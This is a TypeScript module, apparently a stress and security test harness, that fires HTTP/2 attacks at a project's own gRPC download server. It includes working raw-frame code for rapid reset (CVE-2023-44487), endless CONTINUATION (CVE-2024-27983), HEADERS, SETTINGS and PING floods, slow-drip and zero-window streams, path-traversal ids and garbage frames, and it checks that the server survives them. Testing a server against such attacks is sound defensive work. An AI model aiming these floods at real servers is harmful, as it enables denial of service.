/**
 * Attacks on a gRPC server over HTTP/2. Raw frames are used where the HTTP/2 API cannot send the
 * attack.
 */
import { Buffer } from "node:buffer";
import { once } from "node:events";
import { type ClientHttp2Session, connect } from "node:http2";
import type { Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { create, toBinary } from "@bufbuild/protobuf";
import {
  DownloadPieceRequestSchema,
  StatTaskRequestSchema,
} from "../../src/gen/dfdaemon/v2/dfdaemon_pb.ts";
import { trickyIds } from "../../test/support/hostile.ts";
import {
  Flag,
  Frame,
  frame,
  headerBlock,
  headerFrames,
  onEachFrame,
  PREFACE,
  uint32s,
} from "../../test/support/hostile-http2.ts";
import {
  type Attack,
  garbage,
  inParallel,
  OutcomeCounter,
  pause,
  pick,
  type Target,
  withRetries,
} from "./attack.ts";
import { closed, connected } from "./connections.ts";

/** Concurrent streams of a connection: the default limit of a server. */
const STREAM_CONCURRENCY = 100;
/** Concurrent connections. */
const CONNECTION_CONCURRENCY = 8;
/** Interval between two bytes of a slow drip, in ms. */
const DRIP_INTERVAL_MS = 100;
const SERVICE = "/dfdaemon.v2.DfdaemonUpload/";
/**
 * SETTINGS_INITIAL_WINDOW_SIZE 0 (RFC 9113, section 6.9.2): the server may send no byte of an
 * answer.
 */
const NO_WINDOW = Uint8Array.of(0, 4, 0, 0, 0, 0);

/** All attacks over HTTP/2. */
export const http2Attacks: readonly Attack[] = [
  {
    name: "requests for missing pieces",
    over: "grpc",
    unit: "request",
    tries: 2_500,
    run: (target, tries, random) =>
      withSession(target, (ask) =>
        inParallel(tries, STREAM_CONCURRENCY, async () => {
          const number = pick([0, 1_000, 0xffffffff], random);
          return outcomeOf(await ask(number === 0 ? "0".repeat(64) : target.taskId, number));
        }),
      ),
  },
  {
    name: "path traversal in ids",
    over: "grpc",
    unit: "request",
    tries: 2_500,
    run: (target, tries) =>
      withSession(target, (ask) =>
        inParallel(tries, STREAM_CONCURRENCY, async (index) =>
          outcomeOf(await ask(trickyIds[index % trickyIds.length]?.[1] ?? "", 0)),
        ),
      ),
  },
  byStreams("garbage in requests", 3_000, (client, stream, _target, random) => {
    client.send(requestHeaders(stream));
    const bytes = garbage(1 + Math.floor(random() * 200), random);
    // Half of them have a valid message header, so that the server parses the message.
    if (random() < 0.5) bytes.set([0, 0, 0, 0, bytes.length - 5].slice(0, bytes.length));
    client.send(frame(Frame.Data, Flag.EndStream, stream, bytes));
  }),
  byStreams("requests with an announced length of 4 GiB", 1_000, (client, stream) => {
    client.send(requestHeaders(stream));
    client.send(frame(Frame.Data, 0, stream, Uint8Array.of(0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3)));
  }),
  byStreams("abandoned streams", 1_500, (client, stream) => client.send(requestHeaders(stream))),
  byStreams("slow-drip requests", 600, async (client, stream, target) => {
    client.send(requestHeaders(stream));
    for (const byte of requestFor(target.taskId, 0)) {
      if (client.hasEnded(stream)) break;
      client.send(frame(Frame.Data, 0, stream, Uint8Array.of(byte)));
      await pause(DRIP_INTERVAL_MS);
    }
  }),
  byStreams(
    "readers that never read",
    300,
    (client, stream, target) => {
      client.send(requestHeaders(stream));
      client.send(frame(Frame.Data, Flag.EndStream, stream, requestFor(target.longTaskId, 0)));
    },
    NO_WINDOW,
  ),
  byStreams(
    "short answers never read",
    300,
    (client, stream, { taskId }) => {
      client.send(requestHeaders(stream, "StatTask"));
      const request = toBinary(StatTaskRequestSchema, create(StatTaskRequestSchema, { taskId }));
      client.send(frame(Frame.Data, Flag.EndStream, stream, envelopeOf(request)));
    },
    NO_WINDOW,
  ),
  byConnections("requests that never end", 60, async (client) => {
    client.send(requestHeaders(1));
    const chunk = frame(Frame.Data, 0, 1, new Uint8Array(16_384));
    // Within the window of a stream, and far beyond the maximum length of a request.
    for (let count = 0; count < 4; count++) client.send(chunk);
    await client.until(() => client.hasEnded(1));
    return "cut off";
  }),
  {
    ...byConnections(
      "rapid reset: requests and their RST_STREAM (CVE-2023-44487)",
      8_000,
      async (client, target, amount) => {
        const request = requestFor(target.taskId, 0);
        for (let index = 0; index < amount; index++) {
          const stream = 2 * index + 1;
          client.send(requestHeaders(stream));
          client.send(frame(Frame.Data, Flag.EndStream, stream, request));
          client.send(frame(Frame.Reset, 0, stream, uint32s(8)));
        }
        return client.outcome();
      },
      200,
    ),
    unit: "request",
  },
  {
    ...byConnections(
      "HEADERS flood",
      8_000,
      async (client, _target, amount) => {
        for (let index = 0; index < amount; index++) client.send(requestHeaders(2 * index + 1));
        return client.outcome();
      },
      200,
    ),
    unit: "request",
  },
  byConnections("SETTINGS and PING flood, 500 per connection", 200, async (client) => {
    for (let index = 0; index < 250; index++) {
      client.send(frame(Frame.Settings, 0, 0, Uint8Array.of(0, 3, 0, 0, 0, index)));
      client.send(frame(Frame.Ping, 0, 0, new Uint8Array(8)));
    }
    return client.outcome();
  }),
  byConnections("endless CONTINUATION, 1 MiB (CVE-2024-27983)", 100, async (client) => {
    client.send(frame(Frame.Headers, 0, 1, headerBlock({ ":method": "POST" })));
    const more = headerBlock({ "x-more": "y".repeat(16_000) });
    for (let count = 0; count < 64; count++) client.send(frame(Frame.Continuation, 0, 1, more));
    await client.until(() => false);
    return "cut off";
  }),
  byConnections("invalid HTTP/2 frames", 1_000, async (client, _target, _amount, random) => {
    const stream = pick([0, 1, 2, 0x7fffffff], random);
    const payload = garbage(Math.floor(random() * 100), random);
    const announced = random() < 0.2 ? 0xffffff : payload.length;
    for (let count = 0; count < 4; count++) {
      const type = Math.floor(random() * 12);
      client.send(frame(type, Math.floor(random() * 256), stream, payload, announced));
    }
    // The server may ignore such a frame, or wait for the rest of it, so do not wait for its end.
    return Promise.race([
      client.until(() => false).then(() => "cut off"),
      pause(50).then(() => "accepted"),
    ]);
  }),
  {
    name: "garbage instead of HTTP/2",
    over: "grpc",
    unit: "connection",
    tries: 1_500,
    run: (target, tries, random) =>
      inParallel(tries, CONNECTION_CONCURRENCY * 4, async (index) => {
        const socket = await established(target);
        socket.resume();
        const bytes = garbage(1 + Math.floor(random() * 300), random);
        // A third comes after the preface, and a third after a request of HTTP/1.1.
        if (index % 3 === 0) socket.write(PREFACE);
        if (index % 3 === 1) socket.write("GET / HTTP/1.1\r\nHost: example.org\r\n\r\n");
        socket.write(bytes);
        await closed(socket);
        return "cut off";
      }),
  },
];

/** Resolves to a connection after its TLS handshake, if it has one. */
async function established(target: Target): Promise<Socket> {
  const socket = await connected(target);
  if (target.secure !== true || socket.destroyed) return socket;
  const secured = connectTls({ socket, ALPNProtocols: ["h2"], rejectUnauthorized: false });
  secured.on("error", () => {});
  await Promise.race([once(secured, "secureConnect").catch(() => {}), closed(secured)]);
  return secured;
}

/** Client that sends raw HTTP/2 frames. */
class RawClient {
  readonly #socket: Socket;
  readonly #ended = new Set<number>();
  #closed = false;
  #greeted = false;
  #pong: (() => void) | undefined;
  #waiting: (() => void)[] = [];

  private constructor(socket: Socket) {
    this.#socket = socket;
    onEachFrame(socket, 0, (type, flags, stream) => {
      if (type === Frame.Settings && (flags & Flag.Ack) === 0) {
        this.#greeted = true;
        this.send(frame(Frame.Settings, Flag.Ack, 0));
      }
      if (type === Frame.Ping && (flags & Flag.Ack) !== 0) this.#pong?.();
      if (type === Frame.Reset) this.#ended.add(stream);
      if ((type === Frame.Headers || type === Frame.Data) && (flags & Flag.EndStream) !== 0)
        this.#ended.add(stream);
      this.#wake();
    });
    socket.once("close", () => {
      this.#closed = true;
      this.#pong?.();
      this.#wake();
    });
  }

  /** Connects, and waits for the server's SETTINGS. */
  static connect(target: Target, settings?: Uint8Array): Promise<RawClient> {
    return withRetries(async () => {
      const socket = await established(target);
      socket.write(PREFACE);
      socket.write(frame(Frame.Settings, 0, 0, settings));
      const client = new RawClient(socket);
      await client.until(() => client.#greeted);
      if (client.gone) throw new Error("the server has turned the connection away");
      return client;
    });
  }

  /** True once the connection has ended. */
  get gone(): boolean {
    return this.#closed || this.#socket.destroyed;
  }

  /** Returns true once the stream has ended, by the server or with its connection. */
  hasEnded(stream: number): boolean {
    return this.gone || this.#ended.has(stream);
  }

  send(bytes: Uint8Array): void {
    if (!this.#socket.destroyed) this.#socket.write(bytes);
  }

  /** Resolves when `condition` holds or the connection has ended. */
  async until(condition: () => boolean): Promise<void> {
    while (!this.gone && !condition()) {
      await new Promise<void>((resolve) => {
        this.#waiting.push(resolve);
      });
    }
  }

  /** Sends a PING, and resolves to `accepted` if the server answers, or to `cut off`. */
  async outcome(): Promise<string> {
    const answered = new Promise<void>((resolve) => {
      this.#pong = resolve;
    });
    this.send(frame(Frame.Ping, 0, 0, new Uint8Array(8)));
    if (!this.gone) await answered;
    return this.gone ? "cut off" : "accepted";
  }

  async close(): Promise<void> {
    this.#socket.destroy();
    await closed(this.#socket);
  }

  /** Rechecks all conditions after a frame or the end of the connection. */
  #wake(): void {
    for (const wake of this.#waiting.splice(0)) wake();
  }
}

/**
 * Makes an attack whose tries are streams. The server ends each in some way within its deadlines.
 */
function byStreams(
  name: string,
  tries: number,
  open: (
    client: RawClient,
    stream: number,
    target: Target,
    random: () => number,
  ) => void | Promise<void>,
  settings?: Uint8Array,
): Attack {
  return {
    name,
    over: "grpc",
    unit: "request",
    tries,
    async run(target, count, random) {
      const counter = new OutcomeCounter();
      for (let done = 0; done < count; ) {
        const client = await RawClient.connect(target, settings);
        // A stream identifier is used once (RFC 9113, section 5.1.1), so a connection carries a
        // limited number.
        const amount = Math.min(count - done, 1_000);
        let next = 1;
        const outcomes = await inParallel(amount, STREAM_CONCURRENCY, async () => {
          const stream = next;
          next += 2;
          if (client.gone) return "the connection had ended";
          await open(client, stream, target, random);
          await client.until(() => client.hasEnded(stream));
          return "ended by the server";
        });
        for (const [outcome, times] of Object.entries(outcomes)) counter.note(outcome, times);
        await client.close();
        done += amount;
      }
      return counter.outcomes;
    },
  };
}

/**
 * Makes an attack whose tries are connections.
 *
 * @param perConnection number of tries that one connection makes
 */
function byConnections(
  name: string,
  tries: number,
  make: (
    client: RawClient,
    target: Target,
    amount: number,
    random: () => number,
  ) => Promise<string>,
  perConnection = 1,
): Attack {
  return {
    name,
    over: "grpc",
    unit: "connection",
    tries,
    async run(target, count, random) {
      const counter = new OutcomeCounter();
      const outcomes = await inParallel(
        Math.ceil(count / perConnection),
        CONNECTION_CONCURRENCY,
        async (index) => {
          const client = await RawClient.connect(target);
          const amount = Math.min(perConnection, count - index * perConnection);
          try {
            const outcome = await make(client, target, amount, random);
            counter.note(outcome, amount);
            return outcome;
          } finally {
            await client.close();
          }
        },
      );
      // A connection that hangs is missing in `counter`.
      return { ...outcomes, ...counter.outcomes };
    },
  };
}

/** Returns the HEADERS of a gRPC call. */
export function requestHeaders(stream: number, method = "DownloadPiece"): Uint8Array {
  const fields = {
    ":method": "POST",
    ":scheme": "http",
    ":path": `${SERVICE}${method}`,
    ":authority": "localhost",
    "content-type": "application/grpc",
    te: "trailers",
  };
  return headerFrames(stream, headerBlock(fields), false);
}

/** Returns a DownloadPiece request as the payload of DATA. */
export function requestFor(taskId: string, pieceNumber: number): Uint8Array {
  const message = toBinary(
    DownloadPieceRequestSchema,
    create(DownloadPieceRequestSchema, { taskId, pieceNumber }),
  );
  return envelopeOf(message);
}

function envelopeOf(message: Uint8Array): Uint8Array {
  return Buffer.concat([Buffer.of(0), uint32s(message.length), message]);
}

/**
 * Runs `use` with a function that requests a piece through Node's HTTP/2 API and resolves to the
 * gRPC status.
 */
async function withSession<T>(
  { host, port, secure = false }: Target,
  use: (ask: (taskId: string, number: number) => Promise<string>) => Promise<T>,
): Promise<T> {
  const session = await withRetries(() =>
    sessionWith(`${secure ? "https" : "http"}://${host}:${port}`),
  );
  try {
    return await use(
      (taskId, number) =>
        new Promise((resolve) => {
          const stream = session.request({
            ":method": "POST",
            ":path": `${SERVICE}DownloadPiece`,
            "content-type": "application/grpc",
            te: "trailers",
          });
          let status = "none";
          const note = (fields: object): void => {
            if ("grpc-status" in fields) status = String(fields["grpc-status"]);
          };
          stream.on("response", note);
          stream.on("trailers", note);
          stream.on("error", () => {});
          stream.once("close", () => resolve(status));
          stream.resume();
          stream.end(requestFor(taskId, number));
        }),
    );
  } finally {
    session.destroy();
  }
}

function sessionWith(authority: string): Promise<ClientHttp2Session> {
  const session = connect(authority, { rejectUnauthorized: false });
  session.on("error", () => {});
  return new Promise((resolve, reject) => {
    session.once("remoteSettings", () => resolve(session));
    session.once("close", () => reject(new Error("the server has turned the connection away")));
  });
}

/** Maps NOT_FOUND and INVALID_ARGUMENT to their names; any other status is wrong. */
function outcomeOf(status: string): string {
  if (status === "5") return "NotFound";
  return status === "3" ? "InvalidArgument" : `wrong: status ${status}`;
}
